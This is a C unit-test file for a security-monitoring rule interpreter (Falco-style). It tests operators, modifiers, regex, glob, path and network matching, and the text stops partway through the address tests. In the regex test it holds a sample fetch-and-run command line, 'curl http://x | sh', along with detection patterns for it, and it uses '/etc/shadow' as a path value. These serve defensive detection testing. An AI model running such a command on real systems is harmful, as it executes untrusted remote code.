/* core/interp.c: every operator and modifier on every value kind, missing
 * values and `not`, list and ancestor fields, pmatch, globs, regexes (RE2
 * POSIX dialect), addresses and networks, transformers, right-hand fields
 * and the truncation (fail closed) rules. ASTs are built by hand, values
 * come from a fake getter. */
#include <arpa/inet.h>
#include <errno.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "tests/unit/test_util.h"

#include "core/arena.h"
#include "core/ast.h"
#include "core/bind.h"
#include "core/diag.h"
#include "core/fields.h"
#include "core/interp.h"
#include "core/transform.h"
#include "grammar/condition.h"

#define F INTERP_FALSE
#define T INTERP_TRUE
#define M INTERP_MAYBE

/* ---- the fake event ------------------------------------------------------ */

struct entry {
    const char *name;
    const char *arg;
    struct field_value v;
    int rc;
};

struct env {
    struct entry e[16];
    size_t n;
    struct fv_str lists[4][8];
};

static int _get(void *ctx, const struct ast_field *f, struct field_value *out)
{
    struct env *env = ctx;
    for (size_t i = 0; i < env->n; i++) {
        const struct entry *e = &env->e[i];
        bool same_arg = (!e->arg && !f->arg) || (e->arg && f->arg && !strcmp(e->arg, f->arg));
        if (strcmp(e->name, f->name) != 0 || !same_arg)
            continue;
        if (e->rc < 0)
            return e->rc;
        *out = e->v;
        return 0;
    }
    out->kind = FV_NONE;
    return 0;
}

static struct field_value *_put(struct env *env, const char *name, const char *arg)
{
    struct entry *e = &env->e[env->n++];
    memset(e, 0, sizeof(*e));
    e->name = name;
    e->arg = arg;
    return &e->v;
}

static void _strn(struct env *env, const char *name, const char *s, size_t len, bool trunc)
{
    struct field_value *v = _put(env, name, NULL);
    v->kind = FV_STR;
    v->str.ptr = s;
    v->str.len = len;
    v->truncated = trunc;
}

static void _str(struct env *env, const char *name, const char *s)
{
    _strn(env, name, s, strlen(s), false);
}

static void _trunc(struct env *env, const char *name, const char *s)
{
    _strn(env, name, s, strlen(s), true);
}

static void _uint(struct env *env, const char *name, uint64_t u)
{
    struct field_value *v = _put(env, name, NULL);
    v->kind = FV_UINT;
    v->u = u;
}

static void _int(struct env *env, const char *name, int64_t i)
{
    struct field_value *v = _put(env, name, NULL);
    v->kind = FV_INT;
    v->i = i;
}

static void _bool(struct env *env, const char *name, bool b)
{
    struct field_value *v = _put(env, name, NULL);
    v->kind = FV_BOOL;
    v->b = b;
}

static void _ip(struct env *env, const char *name, const char *text)
{
    struct field_value *v = _put(env, name, NULL);
    v->kind = FV_IP;
    if (inet_pton(AF_INET, text, v->ip) == 1) {
        v->family = 4;
    } else {
        assert_int_equal(inet_pton(AF_INET6, text, v->ip), 1);
        v->family = 6;
    }
}

/* A list value from a NULL-terminated list of strings. */
static void _list(struct env *env, const char *name, int trunc, ...)
{
    static size_t which;
    struct fv_str *items = env->lists[which++ % 4];
    size_t n = 0;
    va_list ap;
    va_start(ap, trunc);
    for (const char *s; (s = va_arg(ap, const char *));)
        items[n++] = (struct fv_str){s, strlen(s)};
    va_end(ap);
    struct field_value *v = _put(env, name, NULL);
    v->kind = FV_LIST;
    v->list = items;
    v->nlist = n;
    v->truncated = trunc != 0;
}

static void _broken(struct env *env, const char *name)
{
    _put(env, name, NULL);
    env->e[env->n - 1].rc = -EIO;
}

/* ---- AST builders ------------------------------------------------------------ */

static struct arena *_arena;

static int _setup(void **state)
{
    _arena = arena_new();
    return 0;
}

static int _teardown(void **state)
{
    arena_free(&_arena);
    return 0;
}

/* A field reference as the resolver binds it: "evt.arg.flags" gets the
 * named argument, "name[arg]" a bracket argument, tolower(...) etc. wrap. */
static struct ast_field _field(const char *text)
{
    struct ast_field f = {0};
    static const char *const xf[] = {"tolower(", "toupper(", "b64(", "basename(", "len("};
    enum ast_transformer stack[AST_MAX_TRANSFORMERS];
    unsigned n = 0;
    for (bool again = true; again;) {
        again = false;
        for (unsigned i = 0; i < 5; i++) {
            size_t l = strlen(xf[i]);
            if (!strncmp(text, xf[i], l)) {
                stack[n++] = (enum ast_transformer)i;
                text += l;
                again = true;
            }
        }
    }
    char *name = arena_strdup(_arena, text);
    name[strlen(name) - n] = '\0'; /* the closing parentheses */
    char *bracket = strchr(name, '[');
    if (bracket) {
        *bracket = '\0';
        f.arg = bracket + 1;
        bracket[strlen(bracket + 1)] = '\0';
    }
    f.name = name;
    const char *named = NULL;
    f.def = field_lookup(name, &named);
    if (named)
        f.arg = named;
    for (unsigned i = 0; i < n; i++)
        f.transformers[i] = stack[n - 1 - i];
    f.ntransformers = n;
    return f;
}

static struct ast_node *_node(const char *lhs, enum ast_op op, enum ast_modifier mod,
                              enum ast_rhs_kind kind, va_list ap)
{
    struct ast_node *n = ast_new(_arena, AST_CMP, (struct src_pos){NULL, 1});
    n->cmp.lhs = _field(lhs);
    n->cmp.op = op;
    n->cmp.modifier = mod;
    n->cmp.op_pos = (struct src_pos){NULL, 5};
    n->cmp.rhs.kind = kind;
    const char *vals[64];
    size_t nv = 0;
    for (const char *s; (s = va_arg(ap, const char *));)
        vals[nv++] = s;
    if (kind == RHS_FIELD) {
        n->cmp.rhs.field = _field(vals[0]);
        return n;
    }
    n->cmp.rhs.values = arena_alloc(_arena, (nv ? nv : 1) * sizeof(struct ast_value));
    n->cmp.rhs.nvalues = nv;
    for (size_t i = 0; i < nv; i++) {
        n->cmp.rhs.values[i].text = vals[i];
        n->cmp.rhs.values[i].len = strlen(vals[i]);
        n->cmp.rhs.values[i].pos = (struct src_pos){NULL, (uint32_t)(100 + i)};
    }
    return n;
}

/* lhs op value */
static struct ast_node *_cmp(const char *lhs, enum ast_op op, const char *value)
{
    struct ast_node *n = ast_new(_arena, AST_CMP, (struct src_pos){NULL, 1});
    n->cmp.lhs = _field(lhs);
    n->cmp.op = op;
    n->cmp.op_pos = (struct src_pos){NULL, 5};
    n->cmp.rhs.kind = op == OP_EXISTS ? RHS_NONE : RHS_VALUE;
    if (value) {
        n->cmp.rhs.values = arena_alloc(_arena, sizeof(struct ast_value));
        n->cmp.rhs.nvalues = 1;
        n->cmp.rhs.values[0].text = value;
        n->cmp.rhs.values[0].len = strlen(value);
        n->cmp.rhs.values[0].pos = (struct src_pos){NULL, 100};
    }
    return n;
}

/* lhs op (v1, v2, ..., NULL) */
static struct ast_node *_in(const char *lhs, enum ast_op op, ...)
{
    va_list ap;
    va_start(ap, op);
    struct ast_node *n = _node(lhs, op, MOD_NONE, RHS_LIST, ap);
    va_end(ap);
    return n;
}

/* lhs op mod (v1, ..., NULL) */
static struct ast_node *_mod(const char *lhs, enum ast_op op, enum ast_modifier mod, ...)
{
    va_list ap;
    va_start(ap, mod);
    struct ast_node *n = _node(lhs, op, mod, RHS_LIST, ap);
    va_end(ap);
    return n;
}

/* lhs op val(rhs) */
static struct ast_node *_rf(const char *lhs, enum ast_op op, const char *rhs)
{
    struct ast_node *n = _cmp(lhs, op, NULL);
    n->cmp.rhs.kind = RHS_FIELD;
    n->cmp.rhs.field = _field(rhs);
    return n;
}

static struct ast_node *_not(struct ast_node *kid)
{
    struct ast_node *n = ast_new(_arena, AST_NOT, (struct src_pos){0});
    n->operand = kid;
    return n;
}

static struct ast_node *_bin(enum ast_kind kind, struct ast_node *a, struct ast_node *b)
{
    struct ast_node *n = ast_new(_arena, kind, (struct src_pos){0});
    n->list.kids = arena_alloc(_arena, 2 * sizeof(*n->list.kids));
    n->list.kids[0] = a;
    n->list.kids[1] = b;
    n->list.nkids = 2;
    return n;
}

static enum interp_result _run(const struct ast_node *n, struct env *env)
{
    struct diag_list diags = {0};
    struct interp *it = interp_compile(n, &diags, "rule 'test'");
    for (size_t i = 0; i < diags.len; i++)
        print_error("unexpected: %s\n", diags.items[i].message);
    assert_non_null(it);
    assert_int_equal(diags.len, 0);
    diag_list_free(&diags);
    enum interp_result r = interp_eval_result(it, _get, env);
    assert_int_equal(interp_eval(it, _get, env), r != INTERP_FALSE);
    interp_free(&it);
    assert_null(it);
    return r;
}

/* Compiles n expecting a LOAD_ERR_COMPILE_CONDITION at offset. */
static void _bad(const struct ast_node *n, uint32_t offset, const char *needle)
{
    struct diag_list diags = {0};
    struct interp *it = interp_compile(n, &diags, "rule 'test'");
    assert_null(it);
    assert_true(diags.len >= 1);
    assert_int_equal(diags.items[0].code, DIAG_LOAD_ERR_COMPILE_CONDITION);
    assert_int_equal(diags.items[0].pos.offset, offset);
    if (needle && !strstr(diags.items[0].message, needle)) {
        print_error("message '%s' lacks '%s'\n", diags.items[0].message, needle);
        fail();
    }
    assert_string_equal(diags.items[0].item, "rule 'test'");
    diag_list_free(&diags);
    assert_null(interp_new(n));
}

/* ---- tests ---------------------------------------------------------------------- */

static void test_missing_values_and_not(void **state)
{
    struct env env = {0};
    /* Falco: a field with no value makes every comparison false... */
    assert_int_equal(_run(_cmp("proc.name", OP_EQ, "bash"), &env), F);
    assert_int_equal(_run(_cmp("proc.name", OP_NE, "bash"), &env), F);
    assert_int_equal(_run(_in("proc.name", OP_IN, "a", "b", NULL), &env), F);
    assert_int_equal(_run(_cmp("proc.name", OP_EXISTS, NULL), &env), F);
    /* ...and `not` flips it */
    assert_int_equal(_run(_not(_cmp("proc.name", OP_EQ, "bash")), &env), T);
    assert_int_equal(_run(_not(_cmp("proc.name", OP_NE, "bash")), &env), T);
    assert_int_equal(_run(_not(_cmp("proc.name", OP_EXISTS, NULL)), &env), T);
    _str(&env, "proc.name", "bash");
    assert_int_equal(_run(_cmp("proc.name", OP_EXISTS, NULL), &env), T);
    assert_int_equal(_run(_cmp("proc.name", OP_EQ, "bash"), &env), T);
    assert_int_equal(_run(_not(_cmp("proc.name", OP_EQ, "bash")), &env), F);
    /* an empty string is a value */
    struct env empty = {0};
    _str(&empty, "proc.name", "");
    assert_int_equal(_run(_cmp("proc.name", OP_EXISTS, NULL), &empty), T);
    assert_int_equal(_run(_cmp("proc.name", OP_EQ, ""), &empty), T);
}

static void test_and_or_bool(void **state)
{
    struct env env = {0};
    _str(&env, "proc.name", "bash");
    _uint(&env, "proc.pid", 42);
    struct ast_node *yes = _cmp("proc.name", OP_EQ, "bash");
    struct ast_node *no = _cmp("proc.pid", OP_EQ, "7");
    assert_int_equal(_run(_bin(AST_AND, yes, no), &env), F);
    assert_int_equal(_run(_bin(AST_OR, yes, no), &env), T);
    assert_int_equal(_run(_bin(AST_OR, no, no), &env), F);
    assert_int_equal(_run(_bin(AST_AND, yes, yes), &env), T);
    struct ast_node *t = ast_new(_arena, AST_BOOL, (struct src_pos){0});
    t->value = true;
    struct ast_node *f = ast_new(_arena, AST_BOOL, (struct src_pos){0});
    assert_int_equal(_run(t, &env), T);
    assert_int_equal(_run(f, &env), F);
    assert_int_equal(_run(_bin(AST_AND, t, _not(f)), &env), T);
    /* n-ary: and of nothing holds, or of nothing does not */
    struct ast_node *and0 = ast_new(_arena, AST_AND, (struct src_pos){0});
    struct ast_node *or0 = ast_new(_arena, AST_OR, (struct src_pos){0});
    assert_int_equal(_run(and0, &env), T);
    assert_int_equal(_run(or0, &env), F);
}

static void test_macro_is_an_error(void **state)
{
    struct ast_node *m = ast_new(_arena, AST_MACRO, (struct src_pos){NULL, 9});
    m->macro.name = "spawned_process";
    _bad(m, 9, "spawned_process");
    _bad(_bin(AST_AND, _cmp("proc.name", OP_EQ, "x"), m), 9, "macros");
}

static void test_strings(void **state)
{
    struct env env = {0};
    _str(&env, "proc.name", "Bash-Shell");
    _str(&env, "fd.name", "/etc/shadow");
    assert_int_equal(_run(_cmp("proc.name", OP_EQ, "Bash-Shell"), &env), T);
    assert_int_equal(_run(_cmp("proc.name", OP_EQ, "bash-shell"), &env), F);
    assert_int_equal(_run(_cmp("proc.name", OP_NE, "bash"), &env), T);
    assert_int_equal(_run(_cmp("proc.name", OP_CONTAINS, "h-S"), &env), T);
    assert_int_equal(_run(_cmp("proc.name", OP_CONTAINS, "h-s"), &env), F);
    assert_int_equal(_run(_cmp("proc.name", OP_CONTAINS, ""), &env), T);
    assert_int_equal(_run(_cmp("proc.name", OP_ICONTAINS, "H-s"), &env), T);
    assert_int_equal(_run(_cmp("proc.name", OP_ICONTAINS, "zsh"), &env), F);
    assert_int_equal(_run(_cmp("proc.name", OP_STARTSWITH, "Bash"), &env), T);
    assert_int_equal(_run(_cmp("proc.name", OP_STARTSWITH, "bash"), &env), F);
    assert_int_equal(_run(_cmp("proc.name", OP_STARTSWITH, "Bash-Shell-"), &env), F);
    assert_int_equal(_run(_cmp("proc.name", OP_ENDSWITH, "Shell"), &env), T);
    assert_int_equal(_run(_cmp("proc.name", OP_ENDSWITH, "xBash-Shell"), &env), F);
    /* strcmp order for < <= > >= (libsinsp allows them on strings) */
    assert_int_equal(_run(_cmp("proc.name", OP_LT, "C"), &env), T);
    assert_int_equal(_run(_cmp("proc.name", OP_LT, "Bash"), &env), F);
    assert_int_equal(_run(_cmp("proc.name", OP_GT, "Bash"), &env), T);
    assert_int_equal(_run(_cmp("proc.name", OP_LE, "Bash-Shell"), &env), T);
    assert_int_equal(_run(_cmp("proc.name", OP_GE, "Bash-Shellz"), &env), F);
    /* paths are strings */
    assert_int_equal(_run(_cmp("fd.name", OP_STARTSWITH, "/etc/"), &env), T);
    /* a C string ends at its first NUL, as libsinsp compares with strcmp */
    struct env nul = {0};
    _strn(&nul, "proc.name", "ab\0cd", 5, false);
    assert_int_equal(_run(_cmp("proc.name", OP_EQ, "ab"), &nul), T);
    assert_int_equal(_run(_cmp("proc.name", OP_CONTAINS, "cd"), &nul), F);
    /* and a value may not hold a NUL byte */
    struct ast_node *n = _cmp("proc.name", OP_EQ, "x");
    n->cmp.rhs.values[0].text = "a\0b";
    n->cmp.rhs.values[0].len = 3;
    _bad(n, 100, "NUL");
}

static void test_bytes(void **state)
{
    struct env env = {0};
    _strn(&env, "evt.buffer",
          "\x7f"
          "ELF\0\x01zz",
          8, false);
    assert_int_equal(_run(_cmp("evt.buffer", OP_BCONTAINS, "454c46"), &env), T);
    assert_int_equal(_run(_cmp("evt.buffer", OP_BCONTAINS, "00017a"), &env), T);
    assert_int_equal(_run(_cmp("evt.buffer", OP_BCONTAINS, "0002"), &env), F);
    assert_int_equal(_run(_cmp("evt.buffer", OP_BSTARTSWITH, "7F454C46"), &env), T);
    assert_int_equal(_run(_cmp("evt.buffer", OP_BSTARTSWITH, "454c46"), &env), F);
    /* byte buffers compare past NUL bytes */
    assert_int_equal(_run(_cmp("evt.buffer", OP_CONTAINS, "zz"), &env), T);
    assert_int_equal(_run(_cmp("evt.buffer", OP_ENDSWITH, "zz"), &env), T);
    _bad(_cmp("evt.buffer", OP_BCONTAINS, "7f4"), 100, "hex");
    _bad(_cmp("evt.buffer", OP_BCONTAINS, "7g"), 100, "hex");
    /* bcontains is for byte buffers only (flt_is_comparable) */
    struct ast_node *n = _cmp("proc.name", OP_BCONTAINS, "41");
    _bad(n, 5, "bcontains");
}

static void test_numbers(void **state)
{
    struct env env = {0};
    _uint(&env, "proc.pid", 1234);
    _int(&env, "evt.rawres", -2);
    _int(&env, "user.loginuid", -1);
    assert_int_equal(_run(_cmp("proc.pid", OP_EQ, "1234"), &env), T);
    assert_int_equal(_run(_cmp("proc.pid", OP_EQ, "0x4d2"), &env), T);
    assert_int_equal(_run(_cmp("proc.pid", OP_EQ, "+1234"), &env), T);
    assert_int_equal(_run(_cmp("proc.pid", OP_NE, "1234"), &env), F);
    assert_int_equal(_run(_cmp("proc.pid", OP_LT, "1235"), &env), T);
    assert_int_equal(_run(_cmp("proc.pid", OP_LE, "1234"), &env), T);
    assert_int_equal(_run(_cmp("proc.pid", OP_GT, "1234"), &env), F);
    assert_int_equal(_run(_cmp("proc.pid", OP_GE, "1234"), &env), T);
    assert_int_equal(_run(_in("proc.pid", OP_IN, "1", "1234", "7", NULL), &env), T);
    assert_int_equal(_run(_in("proc.pid", OP_IN, "1", "2", NULL), &env), F);
    assert_int_equal(_run(_in("proc.pid", OP_INTERSECTS, "1234", NULL), &env), T);
    /* signed fields compare signed */
    assert_int_equal(_run(_cmp("evt.rawres", OP_LT, "0"), &env), T);
    assert_int_equal(_run(_cmp("evt.rawres", OP_EQ, "-2"), &env), T);
    assert_int_equal(_run(_cmp("user.loginuid", OP_EQ, "-1"), &env), T);
    assert_int_equal(_run(_cmp("user.loginuid", OP_GE, "0"), &env), F);
    /* a negative number for an unsigned field wraps (sscanf "%lu") */
    struct env big = {0};
    _uint(&big, "proc.pid", UINT64_MAX);
    assert_int_equal(_run(_cmp("proc.pid", OP_EQ, "-1"), &big), T);
    /* a number given as a string is parsed for a numeric field */
    struct env s = {0};
    _str(&s, "proc.pid", "77");
    assert_int_equal(_run(_cmp("proc.pid", OP_EQ, "77"), &s), T);
    _bad(_cmp("proc.pid", OP_EQ, "12a"), 100, "not a number");
    _bad(_cmp("proc.pid", OP_EQ, "99999999999999999999"), 100, "not a number");
    _bad(_in("proc.pid", OP_IN, "1", "x", NULL), 101, "not a number");
    _bad(_cmp("proc.pid", OP_CONTAINS, "1"), 5, "contains");
    /* ports: numbers */
    struct env port = {0};
    _uint(&port, "fd.sport", 443);
    assert_int_equal(_run(_in("fd.sport", OP_IN, "80", "443", NULL), &port), T);
}

static void test_booleans(void **state)
{
    struct env env = {0};
    _bool(&env, "evt.failed", true);
    assert_int_equal(_run(_cmp("evt.failed", OP_EQ, "true"), &env), T);
    assert_int_equal(_run(_cmp("evt.failed", OP_EQ, "false"), &env), F);
    assert_int_equal(_run(_cmp("evt.failed", OP_NE, "false"), &env), T);
    _bad(_cmp("evt.failed", OP_EQ, "TRUE"), 100, "boolean");
    _bad(_cmp("evt.failed", OP_EQ, "1"), 100, "boolean");
    _bad(_cmp("evt.failed", OP_LT, "true"), 5, "'<'");
}

static void test_in_and_intersects(void **state)
{
    struct env env = {0};
    _str(&env, "proc.name", "sshd");
    assert_int_equal(_run(_in("proc.name", OP_IN, "bash", "sshd", "zsh", NULL), &env), T);
    assert_int_equal(_run(_in("proc.name", OP_IN, "bash", "ssh", "sshd2", NULL), &env), F);
    assert_int_equal(_run(_in("proc.name", OP_IN, NULL), &env), F);
    assert_int_equal(_run(_not(_in("proc.name", OP_IN, NULL)), &env), T);
    /* intersects on a single value is in */
    assert_int_equal(_run(_in("proc.name", OP_INTERSECTS, "sshd", NULL), &env), T);
    /* a big set (binary search) */
    static char names[200][8];
    struct ast_node *n = _in("proc.name", OP_IN, NULL);
    n->cmp.rhs.values = arena_alloc(_arena, 200 * sizeof(struct ast_value));
    n->cmp.rhs.nvalues = 200;
    for (int i = 0; i < 200; i++) {
        snprintf(names[i], sizeof(names[i]), "p%03d", 199 - i);
        n->cmp.rhs.values[i].text = names[i];
        n->cmp.rhs.values[i].len = strlen(names[i]);
    }
    assert_int_equal(_run(n, &env), F);
    struct env hit = {0};
    _str(&hit, "proc.name", "p123");
    assert_int_equal(_run(n, &hit), T);
    _str(&hit, "proc.pname", "p000");
    n->cmp.lhs = _field("proc.pname");
    assert_int_equal(_run(n, &hit), T);
}

static void test_glob(void **state)
{
    struct env env = {0};
    _str(&env, "fd.name", "/usr/Lib/x.so");
    /* fnmatch without FNM_PATHNAME: * crosses '/' */
    assert_int_equal(_run(_cmp("fd.name", OP_GLOB, "/usr/*.so"), &env), T);
    assert_int_equal(_run(_cmp("fd.name", OP_GLOB, "/usr/lib/*"), &env), F);
    assert_int_equal(_run(_cmp("fd.name", OP_IGLOB, "/usr/lib/*"), &env), T);
    assert_int_equal(_run(_cmp("fd.name", OP_GLOB, "/usr/[KL]ib/?.so"), &env), T);
    assert_int_equal(_run(_cmp("fd.name", OP_GLOB, "/usr/[!L]ib/*"), &env), F);
    assert_int_equal(_run(_cmp("fd.name", OP_GLOB, "/usr/Lib/x.so"), &env), T);
    assert_int_equal(_run(_cmp("fd.name", OP_GLOB, "/usr/Lib"), &env), F);
    assert_int_equal(_run(_cmp("fd.name", OP_GLOB, "\\/usr*"), &env), T);
}

static void test_regex(void **state)
{
    struct env env = {0};
    _str(&env, "proc.cmdline", "bash -c curl http://x | sh");
    _str(&env, "proc.name", "ab");
    /* RE2 ANCHOR_BOTH: the whole value must match */
    assert_int_equal(_run(_cmp("proc.cmdline", OP_REGEX, "bash.*\\| *sh"), &env), T);
    assert_int_equal(_run(_cmp("proc.cmdline", OP_REGEX, "curl"), &env), F);
    assert_int_equal(_run(_cmp("proc.cmdline", OP_REGEX, ".*curl.*"), &env), T);
    assert_int_equal(_run(_cmp("proc.name", OP_REGEX, "a|ab"), &env), T);
    assert_int_equal(_run(_cmp("proc.name", OP_REGEX, "[[:alpha:]]{2}"), &env), T);
    assert_int_equal(_run(_cmp("proc.name", OP_REGEX, "[[:digit:]]+"), &env), F);
    /* stacked quantifiers: POSIX mode applies the second to the first */
    assert_int_equal(_run(_cmp("proc.name", OP_REGEX, "a**b"), &env), T);
    assert_int_equal(_run(_cmp("proc.name", OP_REGEX, "(ab)+?"), &env), T);
    assert_int_equal(_run(_cmp("proc.name", OP_REGEX, "a{1}{1}b"), &env), T);
    /* octal and \v escapes are characters */
    assert_int_equal(_run(_cmp("proc.name", OP_REGEX, "\\141b"), &env), T);
    /* ^ and $ also match at line breaks (one_line off) */
    struct env ml = {0};
    _str(&ml, "proc.cmdline", "x\nroot");
    assert_int_equal(_run(_cmp("proc.cmdline", OP_REGEX, "x$\n^root"), &ml), T);
    /* UTF-8: '.' is one character; invalid bytes become one U+FFFD each */
    struct env u = {0};
    _str(&u, "proc.name",
         "a\xc3\xa9"
         "b");
    assert_int_equal(_run(_cmp("proc.name", OP_REGEX, "a.b"), &u), T);
    struct env bad = {0};
    _str(&bad, "proc.name",
         "a\xff"
         "b");
    assert_int_equal(_run(_cmp("proc.name", OP_REGEX, "a.b"), &bad), T);
    assert_int_equal(_run(_cmp("proc.name", OP_REGEX,
                               "a\xef\xbf\xbd"
                               "b"),
                          &bad),
                     T);
    /* Perl syntax RE2's POSIX mode refuses */
    _bad(_cmp("proc.name", OP_REGEX, "\\d+"), 100, "Perl character classes");
    _bad(_cmp("proc.name", OP_REGEX, "[\\w]"), 100, "Perl character classes");
    _bad(_cmp("proc.name", OP_REGEX, "(?i)bash"), 100, "(?...)");
    _bad(_cmp("proc.name", OP_REGEX, "(?:a)"), 100, "(?...)");
    _bad(_cmp("proc.name", OP_REGEX, "\\bx"), 100, "\\b");
    _bad(_cmp("proc.name", OP_REGEX, "(a)\\1"), 100, "backreferences");
    _bad(_cmp("proc.name", OP_REGEX, "\\pL"), 100, "escape");
    _bad(_cmp("proc.name", OP_REGEX, "*a"), 100, "missing argument");
    _bad(_cmp("proc.name", OP_REGEX, "a{1001}"), 100, "1000");
    _bad(_cmp("proc.name", OP_REGEX, "(ab"), 100, "invalid regex");
    _bad(_cmp("proc.name", OP_REGEX, "a\\"), 100, "trailing backslash");
    _bad(_cmp("proc.name", OP_REGEX, "a)(b"), 100, "')'");
    _bad(_cmp("proc.name", OP_REGEX, "[ab"), 100, "']'");
    _bad(_cmp("proc.name", OP_REGEX, "a\\x4"), 100, "hex");
    /* \v is the vertical tab character, not PCRE2's class */
    struct env vt = {0};
    _str(&vt, "proc.name", "a\vb");
    assert_int_equal(_run(_cmp("proc.name", OP_REGEX, "a\\vb"), &vt), T);
    assert_int_equal(_run(_cmp("proc.name", OP_REGEX, "a\\x{0b}b"), &vt), T);
    /* a '{' that is no repetition is a literal */
    struct env brace = {0};
    _str(&brace, "proc.name", "a{x}");
    assert_int_equal(_run(_cmp("proc.name", OP_REGEX, "a{x}"), &brace), T);
}

static void test_pmatch(void **state)
{
    struct env env = {0};
    _str(&env, "fd.name", "/a/b");
    /* whole components: /a/b is under /a, /ab is not */
    assert_int_equal(_run(_in("fd.name", OP_PMATCH, "/a", NULL), &env), T);
    assert_int_equal(_run(_in("fd.name", OP_PMATCH, "/a/b", NULL), &env), T);
    assert_int_equal(_run(_in("fd.name", OP_PMATCH, "/a/b/c", NULL), &env), F);
    assert_int_equal(_run(_in("fd.name", OP_PMATCH, "/a/", NULL), &env), T);
    assert_int_equal(_run(_in("fd.name", OP_PMATCH, "/", NULL), &env), T);
    assert_int_equal(_run(_in("fd.name", OP_PMATCH, "/x", "/a", NULL), &env), T);
    assert_int_equal(_run(_in("fd.name", OP_PMATCH, NULL), &env), F);
    struct env ab = {0};
    _str(&ab, "fd.name", "/ab");
    assert_int_equal(_run(_in("fd.name", OP_PMATCH, "/a", NULL), &ab), F);
    struct env a = {0};
    _str(&a, "fd.name", "/a");
    assert_int_equal(_run(_in("fd.name", OP_PMATCH, "/a/b", NULL), &a), F);
    /* empty components do not count (split_path) */
    struct env dbl = {0};
    _str(&dbl, "fd.name", "//var///run/docker.sock");
    assert_int_equal(_run(_in("fd.name", OP_PMATCH, "/var/run", NULL), &dbl), T);
    /* a component with ?, * or [ is a glob for that component */
    struct env g = {0};
    _str(&g, "fd.name", "/opt/dir/subdir/file.txt");
    assert_int_equal(_run(_in("fd.name", OP_PMATCH, "/opt/*/subdir", NULL), &g), T);
    assert_int_equal(_run(_in("fd.name", OP_PMATCH, "/opt/d?r", NULL), &g), T);
    assert_int_equal(_run(_in("fd.name", OP_PMATCH, "/opt/*/other", NULL), &g), F);
    assert_int_equal(_run(_in("fd.name", OP_PMATCH, "/opt*", NULL), &g), T);
    assert_int_equal(_run(_in("fd.name", OP_PMATCH, "/op", NULL), &g), F);
}

static void test_modifiers(void **state)
{
    struct env env = {0};
    _str(&env, "proc.name", "bash");
    assert_int_equal(_run(_mod("proc.name", OP_EQ, MOD_ANYOF, "sh", "bash", NULL), &env), T);
    assert_int_equal(_run(_mod("proc.name", OP_EQ, MOD_ANYOF, "sh", "zsh", NULL), &env), F);
    assert_int_equal(_run(_mod("proc.name", OP_EQ, MOD_ALLOF, "bash", NULL), &env), T);
    assert_int_equal(_run(_mod("proc.name", OP_EQ, MOD_ALLOF, "bash", "sh", NULL), &env), F);
    assert_int_equal(_run(_mod("proc.name", OP_EQ, MOD_ONEOF, "x", "bash", NULL), &env), T);
    assert_int_equal(_run(_mod("proc.name", OP_NE, MOD_ANYOF, "bash", NULL), &env), F);
    assert_int_equal(_run(_mod("proc.name", OP_NE, MOD_ANYOF, "sh", "bash", NULL), &env), T);
    assert_int_equal(_run(_mod("proc.name", OP_NE, MOD_ALLOF, "sh", "zsh", NULL), &env), T);
    assert_int_equal(_run(_mod("proc.name", OP_NE, MOD_ALLOF, "sh", "bash", NULL), &env), F);
    /* oneof: exactly one value holds */
    assert_int_equal(_run(_mod("proc.name", OP_STARTSWITH, MOD_ONEOF, "b", "x", NULL), &env), T);
    assert_int_equal(_run(_mod("proc.name", OP_STARTSWITH, MOD_ONEOF, "b", "ba", NULL), &env), F);
    assert_int_equal(_run(_mod("proc.name", OP_STARTSWITH, MOD_ALLOF, "b", "ba", NULL), &env), T);
    assert_int_equal(_run(_mod("proc.name", OP_CONTAINS, MOD_ANYOF, "q", "as", NULL), &env), T);
    assert_int_equal(_run(_mod("proc.name", OP_REGEX, MOD_ONEOF, "b.*", "z.*", NULL), &env), T);
    assert_int_equal(_run(_mod("proc.name", OP_REGEX, MOD_ONEOF, "b.*", ".*h", NULL), &env), F);
    assert_int_equal(_run(_mod("proc.name", OP_GLOB, MOD_ALLOF, "b*", "*h", NULL), &env), T);
    /* no values never holds */
    assert_int_equal(_run(_mod("proc.name", OP_NE, MOD_ALLOF, NULL), &env), F);
    /* numbers and addresses */
    struct env num = {0};
    _uint(&num, "proc.pid", 5);
    _ip(&num, "fd.sip", "142.251.111.147");
    assert_int_equal(_run(_mod("proc.pid", OP_EQ, MOD_ANYOF, "4", "5", NULL), &num), T);
    assert_int_equal(
        _run(_mod("fd.sip", OP_EQ, MOD_ANYOF, "10.0.0.1", "142.251.111.147", NULL), &num), T);
    assert_int_equal(
        _run(_mod("fd.sip", OP_EQ, MOD_ALLOF, "142.251.111.147", "10.0.0.1", NULL), &num), F);
    assert_int_equal(_run(_mod("fd.sip", OP_NE, MOD_ALLOF, "10.0.0.1", "192.168.0.1", NULL), &num),
                     T);
}

static void test_addresses(void **state)
{
    struct env env = {0};
    _ip(&env, "fd.sip", "142.251.111.147");
    _ip(&env, "fd.cip", "2001:4860:4860::8888");
    _ip(&env, "fd.snet", "142.251.111.147");
    _ip(&env, "fd.cnet", "2001:4860:4860::8888");
    assert_int_equal(_run(_cmp("fd.sip", OP_EQ, "142.251.111.147"), &env), T);
    assert_int_equal(_run(_cmp("fd.sip", OP_EQ, "142.251.111.148"), &env), F);
    assert_int_equal(_run(_cmp("fd.sip", OP_NE, "0:0:0:0:0:0:0:1"), &env), T);
    assert_int_equal(_run(_cmp("fd.sip", OP_EQ, "::1"), &env), F);
    assert_int_equal(_run(_cmp("fd.cip", OP_EQ, "2001:4860:4860:0::8888"), &env), T);
    assert_int_equal(_run(_cmp("fd.cip", OP_NE, "127.0.0.1"), &env), T);
    assert_int_equal(_run(_in("fd.sip", OP_IN, "10.0.0.1", "142.251.111.147", NULL), &env), T);
    /* networks (libsinsp's filter_op_net_compare tests) */
    assert_int_equal(_run(_cmp("fd.snet", OP_EQ, "142.0.0.0/4"), &env), T);
    assert_int_equal(_run(_cmp("fd.snet", OP_EQ, "142.251.0.0/8"), &env), T);
    assert_int_equal(_run(_cmp("fd.snet", OP_EQ, "142.251.111.0/16"), &env), T);
    assert_int_equal(_run(_cmp("fd.snet", OP_NE, "10.0.0.0/8"), &env), T);
    assert_int_equal(_run(_cmp("fd.snet", OP_EQ, "10.0.0.0/8"), &env), F);
    assert_int_equal(_run(_cmp("fd.snet", OP_NE, "2001:db8:abcd:0012::0/64"), &env), T);
    assert_int_equal(_run(_cmp("fd.snet", OP_EQ, "2001:db8:abcd:0012::0/64"), &env), F);
    assert_int_equal(_run(_cmp("fd.cnet", OP_EQ, "2001::0/16"), &env), T);
